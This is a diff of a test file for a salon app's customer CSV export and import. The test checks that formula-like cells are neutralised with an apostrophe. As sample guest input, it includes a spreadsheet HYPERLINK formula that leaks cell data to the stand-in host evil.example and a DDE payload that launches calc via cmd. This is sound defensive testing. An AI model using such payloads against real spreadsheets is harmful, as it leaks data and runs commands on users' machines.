@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from './helpers.ts';
 import { createSalon, type Salon } from './salon-fixture.ts';
@@ -89,7 +90,9 @@ describe('customers', () => {
     expect(csv.headers['content-type']).toContain('text/csv');
     const lines = csv.body.trim().split('\n');
     expect(lines[0]).toBe('name,email,phone,birthday,note,visits,no_shows,spend,last_visit');
-    expect(lines[1]).toContain('Ada Lovelace,ada@example.com,+442079460000,1815-12-10,Prefers Ana,2,1,90.00');
+    expect(lines[1]).toContain(
+      "Ada Lovelace,ada@example.com,'+442079460000,1815-12-10,Prefers Ana,2,1,90.00",
+    );
 
     const imported = await admin(
       'POST',
@@ -116,5 +119,35 @@ describe('customers', () => {
       'content-type': 'text/csv',
     });
     expect(broken.statusCode).toBe(400);
+  });
+
+  it('exports a formula typed by a guest as text, and imports it back as typed', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    const booked = await t.app.inject({
+      method: 'POST',
+      url: `/api/public/shops/${salon.subdomain}/bookings`,
+      payload: {
+        services: [salon.services.cut],
+        start: '2026-11-24T10:00:00+01:00',
+        stylist: salon.stylists[0]?.id,
+        customer: { name: formula, email: 'mallory@example.com', phone: '+4930123456' },
+      },
+    });
+    expect(booked.statusCode, booked.body).toBe(201);
+    await admin('PATCH', `/customers/${ada}`, { note: '@SUM(1+1)*cmd|" /C calc"!A0' });
+
+    const csv = (await admin('GET', '/customers/export.csv')).body;
+    const records: string[][] = parse(csv);
+    const cells = records.slice(1).flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
+    expect(cells).toContain("'+4930123456");
+    // Nothing a spreadsheet would evaluate is left at the start of any cell.
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const back = await admin('POST', '/customers/import', csv, { 'content-type': 'text/csv' });
+    expect(back.json().errors).toEqual([]);
+    const mallory = (await admin('GET', '/customers?q=mallory')).json().items[0];
+    expect(mallory).toMatchObject({ name: formula, phone: '+4930123456' });
   });
 });
